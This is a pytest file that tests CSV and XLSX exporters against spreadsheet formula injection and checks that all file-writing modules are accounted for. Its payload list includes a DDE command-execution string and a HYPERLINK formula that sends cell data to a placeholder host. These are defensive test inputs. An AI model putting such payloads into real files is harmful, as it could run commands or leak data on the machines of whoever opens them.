"""No text of a raw export becomes a formula in a file that we write, whoever opens it."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from analysis.draw.csv import csv_text, machine_text
from analysis.draw.words import Words
from analysis.exports import workbook
from analysis.payload import Column
from analysis.report import worksheet
from analysis.report.blocks import Cell, Grid, Head
from tests.exports.entries import entry

SOURCE = Path(__file__).parents[2] / "src" / "analysis"
PAYLOADS = [
    "=1+1", "+32 9 224 00 00", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?"&A1;"x")',
    "＝1+1", "=1+1;=2+2", '"=1+1', "=1+1\n=2+2", "=1+1\";\"=2+2",
]  # fmt: skip
WRITERS = {"draw/csv.py", "report/spreadsheet.py", "run/answering/book.py"}
"""All that writes CSV or XLSX; each must be shown here or in its own tests to be harmless."""


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("language", ["nl", "en", "machine"])
def test_no_cell_of_a_csv_begins_as_a_formula(language, payload):
    columns = [
        Column(key="sector", kind="text"),
        Column(key="value", kind="code", vocabulary="sector"),
    ]
    rows = [{"sector": payload, "value": payload}]
    labels = {"sector": {payload: {"nl": payload, "en": payload}}}
    if language == "machine":
        written = machine_text(columns, rows)
    else:
        written = csv_text(columns, rows, Words(language, labels))
    for delimiter in (";", ",", "\t"):
        # By whichever of these a spreadsheet takes its cells apart, quoted ones stay whole.
        if delimiter not in payload:
            cells = list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))[1]
            assert not any(re.match(r"[\s\u00a0]*[=+\-@＝＋－＠]", cell) for cell in cells)
    delimiter = ";" if language == "nl" else ","
    cells = list(csv.reader(io.StringIO(written, newline=""), delimiter=delimiter))[1]
    assert cells[0].removeprefix("'") == payload


def test_no_cell_of_a_workbook_is_a_formula(tmp_path):
    book = openpyxl.Workbook()
    page = book.active
    worksheet.write_lines(page, ["=1+1", *PAYLOADS])
    heads = tuple(Head(payload) for payload in PAYLOADS[:4])
    rows = tuple((Cell(payload), *map(Cell, PAYLOADS[:3])) for payload in PAYLOADS)
    grid = Grid("t", "", "=1+1", heads, rows)
    worksheet.write_table(page, grid, len(PAYLOADS) + 2, "nl")
    book.save(tmp_path / "list.xlsx")
    with zipfile.ZipFile(tmp_path / "list.xlsx") as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<(?:\w+:)?f[\s>/]", sheet)
    again = openpyxl.load_workbook(tmp_path / "list.xlsx")
    cells = [cell for row in again.active.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) == 1 + len(PAYLOADS) + 4 + 4 * len(PAYLOADS)
    assert {cell.data_type for cell in cells} == {"s"}
    assert all(cell.quotePrefix for cell in cells if str(cell.value).startswith(tuple("=+-@")))
    read = workbook.read(tmp_path / "list.xlsx", "list", entry("list.xlsx", "workbook"))
    assert {text for row in read.rows for text in row.cells} >= set(PAYLOADS[:4])


def test_every_writer_of_lists_is_known():
    writes = re.compile(r"csv\.writer\(|DictWriter\(|\bWorkbook\(\)|\.to_csv\(|\.to_excel\(|xlwt\.")
    found = {
        path.relative_to(SOURCE).as_posix()
        for path in SOURCE.rglob("*.py")
        if writes.search(path.read_text(encoding="utf-8"))
    }
    assert found == WRITERS
